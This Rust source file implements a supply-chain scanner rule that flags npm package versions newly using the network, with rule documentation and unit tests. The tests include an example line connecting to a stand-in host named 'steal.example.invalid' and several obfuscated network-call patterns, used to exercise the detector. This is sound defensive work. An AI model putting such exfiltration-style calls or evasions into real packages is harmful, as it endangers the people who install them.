//! `new-network`: The package uses the network for the first time.

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, Weight, capability_rule};
use crate::facts::Capability;

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-network",
    group: "analyze",
    severity: Severity::Medium,
    default_level: Level::Warn,
    summary: "The package uses the network for the first time.",
    doc: r#"Flags a version that requires/imports `http`, `https`, `net`, `tls`, `dgram`, `http2` (also `node:` forms), an HTTP client library (axios, got, request, node-fetch, undici, ws …), or calls `fetch`, `WebSocket`, `XMLHttpRequest` or `navigator.sendBeacon`, when no file of the previous version did (or whose install-time code newly does).

**Why it matters.** A string-formatting or colour library has no reason to open sockets; gaining the network in a patch release is how injected exfiltration code shows up (chalk/debug 2025, xrpl 2025). Libraries that always used the network stay quiet.

**Example.** `left-pad` 1.3.1 adds `require('https').request(...)`.

**How to silence.** Silence it for one package with a policy exception on `new-network` for `name@version`, after reading the new code."#,
};

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    out.extend(capability_rule(
        cx,
        &RULE,
        Capability::Network,
        Weight::Single,
        |_| true,
    ));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    #[test]
    fn fires_when_the_package_gains_it() {
        let f = diff_index(
            r#"module.exports = 1;"#,
            r#"const https = require('https'); module.exports = (u) => https.get(u);"#,
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(hit.message.contains("pkg 1.0.0"), "{}", hit.message);
        assert_eq!(hit.evidence[0].path, "index.js");
    }

    #[test]
    fn an_inline_require_is_named_and_cited_once() {
        let f = diff_index(
            r#"module.exports = 1;"#,
            r#"require('net').connect(443, 'steal.example.invalid');"#,
        );
        let hit = find(&f, RULE.code).expect("finding");
        assert!(hit.message.contains("(net)"), "{hit:?}");
        assert_eq!(
            hit.evidence.len(),
            1,
            "one line is one piece of evidence: {hit:?}"
        );
    }

    #[test]
    fn a_module_loaded_for_its_classes_makes_no_request() {
        // `http.ServerResponse` for an `instanceof` check, `STATUS_CODES` for a message.
        for new in [
            "const http = require('http');\nmodule.exports = (r) => r instanceof http.ServerResponse ? http.STATUS_CODES[r.statusCode] : '';",
            "const { ServerResponse, STATUS_CODES } = require('node:http');\nmodule.exports = (r) => r instanceof ServerResponse && STATUS_CODES[200];",
            "import { IncomingMessage } from 'http';\nexport const isReq = (r) => r instanceof IncomingMessage;",
        ] {
            let f = diff_index("module.exports = 1;", new);
            assert!(find(&f, RULE.code).is_none(), "{new}: {f:?}");
        }
    }

    #[test]
    fn a_module_passed_on_or_called_is_a_use() {
        for new in [
            "const https = require('https');\nmodule.exports = wrap(https);",
            "const axios = require('axios');\nmodule.exports = (u) => axios(u);",
            "const got = require('got');\nmodule.exports = (u) => got.post(u);",
            "import * as http from 'http';\nexport const s = http.createServer();",
            // Around the inert-attribute list: computed members, renamed destructuring, aliases.
            "const h = require('http');\nmodule.exports = (u) => h['req' + 'uest'](u);",
            "const { request: r } = require('https');\nmodule.exports = (u) => r(u);",
            "const h = require('http');\nconst alias = h;\nmodule.exports = (u) => alias.get(u);",
            "const { ServerResponse, get } = require('http');\nmodule.exports = (u) => get(u);",
        ] {
            let f = diff_index("module.exports = 1;", new);
            assert!(find(&f, RULE.code).is_some(), "{new}: {:?}", codes(&f));
        }
    }

    #[test]
    fn quiet_when_it_was_already_there() {
        let f = diff_index(
            r#"const https = require('https');"#,
            r#"const https = require('https'); const http = require('node:http');"#,
        );
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }
}
